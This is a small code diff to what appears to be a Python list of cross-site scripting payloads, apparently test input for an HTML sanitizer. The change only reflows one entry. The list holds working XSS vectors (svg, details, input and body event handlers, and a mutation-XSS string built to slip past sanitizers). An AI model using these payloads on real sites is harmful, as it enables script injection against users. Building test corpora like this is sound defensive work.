@@ -31,7 +31,8 @@ PAYLOADS: tuple[str, ...] = (
     f"<svg/onload={RUN}>",
     f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
     f"<svg><script>{RUN}</script></svg>",
-    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
+    "<math><mtext><table><mglyph><style><!--</style>"
+    f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
     f"<details open ontoggle={RUN}>",
     f"<input autofocus onfocus={RUN}>",
     f"<body onload={RUN}>",
